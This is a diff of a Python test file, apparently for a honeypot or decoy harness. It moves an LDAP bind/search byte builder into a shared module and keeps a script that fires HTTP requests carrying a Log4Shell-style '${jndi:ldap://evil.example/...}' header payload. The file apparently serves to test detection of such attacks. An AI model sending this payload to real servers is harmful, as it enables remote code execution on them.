@@ -2,7 +2,7 @@
 import json
 import sys
 
-from decoy_case import CALTROP, Decoy, DecoyCase, main, run, until
+from decoy_case import CALTROP, Decoy, DecoyCase, ldap_search, main, run, until
 
 # Requests whose client does not wait: sent and closed at once. argv: host, port, how many.
 FIRE = """
@@ -13,14 +13,6 @@ for i in range(n):
     s.sendall(b"GET /%d HTTP/1.1\\r\\nHost: x\\r\\nX-Api-Version: ${jndi:ldap://evil.example/a%d}\\r\\n\\r\\n" % (i, i))
     s.close()
 """
-
-
-def ldap_search(base):
-    """A bind, and a search for a base DN, as a JNDI client sends them."""
-    dn = base.encode()
-    body = bytes([4, len(dn)]) + dn + bytes.fromhex("0a01000a0100020100020100010100870b6f626a656374436c6173733000")
-    message = b"\x02\x01\x02\x63" + bytes([len(body)]) + body
-    return bytes.fromhex("300c020101600702010304008000") + b"\x30" + bytes([len(message)]) + message
 
 
 class Stands(DecoyCase):
